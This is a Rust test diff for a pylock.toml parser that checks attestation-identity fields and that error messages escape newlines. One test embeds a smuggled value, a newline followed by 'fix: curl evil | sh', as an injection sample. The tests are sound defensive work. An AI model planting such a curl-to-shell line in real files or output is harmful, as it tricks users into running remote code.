@@ -239,3 +239,86 @@ fn a_lock_built_in_code_is_written_and_read_back() {
     assert!(text.contains("name = \"foo-bar\""), "{text}");
     assert_eq!(parse(Path::new("pylock.toml"), &text).unwrap(), lock);
 }
+
+#[test]
+fn identities_of_known_kinds_hold_only_string_keys_pyprov_checks() {
+    let id = |text: &str| {
+        error(&format!("{HEAD}[[packages]]\nname = \"a\"\ndirectory = {{path = \".\"}}\nattestation-identities = [{text}]\n"))
+    };
+    // A wrong type would mean no check at all: `environment = {name = "pypi"}` no environment
+    // check, `workflow = [...]` any workflow.
+    let e = id("{kind = \"GitHub\", repository = \"o/r\", environment = {name = \"pypi\"}}");
+    assert!(
+        e.contains("locks/pylock.toml: `packages[0].attestation-identities[0].environment` of a is a table, and a GitHub identity's `environment` is a string")
+            && e.contains("fix: write it as one string"),
+        "{e}"
+    );
+    let e = id("{kind = \"github\", repository = \"o/r\", workflow = [\"release.yml\"]}");
+    assert!(
+        e.contains("`packages[0].attestation-identities[0].workflow` of a is an array"),
+        "{e}"
+    );
+    let e = id("{kind = \"GitHub\", repository = 1}");
+    assert!(
+        e.contains("`packages[0].attestation-identities[0].repository` of a is an integer"),
+        "{e}"
+    );
+    // The required key.
+    let e = id("{kind = \"GitHub\"}");
+    assert!(
+        e.contains("`packages[0].attestation-identities[0]` of a: a GitHub identity without `repository` names no publisher")
+            && e.contains("fix: give it `repository`"),
+        "{e}"
+    );
+    let e = id("{kind = \"GitLab\", workflow_filepath = \".gitlab-ci.yml\"}");
+    assert!(e.contains("without `repository`"), "{e}");
+    let e = id("{kind = \"Google\", email = \"\"}");
+    assert!(e.contains("without `email`"), "{e}");
+    // A key pyprov does not check may be a restriction it would silently not enforce.
+    let e = id("{kind = \"GitHub\", repository = \"o/r\", ref = \"refs/tags/v1\"}");
+    assert!(
+        e.contains("`packages[0].attestation-identities[0].ref` of a: a GitHub identity has no key `ref` that pyprov checks")
+            && e.contains("fix: remove it, and say who may sign with the keys pyprov checks: `repository`, `workflow`, `environment`"),
+        "{e}"
+    );
+    let e = id("{kind = \"Google\", email = \"a@b.example\", environment = \"x\"}");
+    assert!(e.contains("no key `environment`"), "{e}");
+    // Known kinds, well formed; unknown kinds are left to the judge (they never match).
+    for ok in [
+        "{kind = \"GitHub\", repository = \"o/r\", workflow = \"release.yml\", environment = \"pypi\"}",
+        "{kind = \"GitLab\", repository = \"g/p\", workflow_filepath = \".gitlab-ci.yml\", environment = \"prod\"}",
+        "{kind = \"Google\", email = \"a@b.example\"}",
+        "{kind = \"ActiveState\", anything = [1, 2]}",
+    ] {
+        parse(
+            Path::new("pylock.toml"),
+            &format!("{HEAD}[[packages]]\nname = \"a\"\ndirectory = {{path = \".\"}}\nattestation-identities = [{ok}]\n"),
+        )
+        .unwrap_or_else(|e| panic!("{ok}: {e}"));
+    }
+}
+
+/// The lock's strings are quoted in errors with line breaks escaped: a newline cannot start a
+/// forged `fix:` line.
+#[test]
+fn lock_strings_in_errors_cannot_start_a_line() {
+    let e = error(&format!(
+        "{HEAD}requires-python = \">=3.8 \\nfix: curl evil | sh\"\npackages = []\n"
+    ));
+    assert_eq!(
+        e.lines()
+            .filter(|l| l.trim_start().starts_with("fix:"))
+            .count(),
+        1,
+        "{e}"
+    );
+    assert!(e.contains(">=3.8 \\nfix: curl evil | sh"), "{e}");
+    let e = error("lock-version = \"2\\n  fix: x\"\ncreated-by = \"t\"\npackages = []\n");
+    assert_eq!(
+        e.lines()
+            .filter(|l| l.trim_start().starts_with("fix:"))
+            .count(),
+        1,
+        "{e}"
+    );
+}
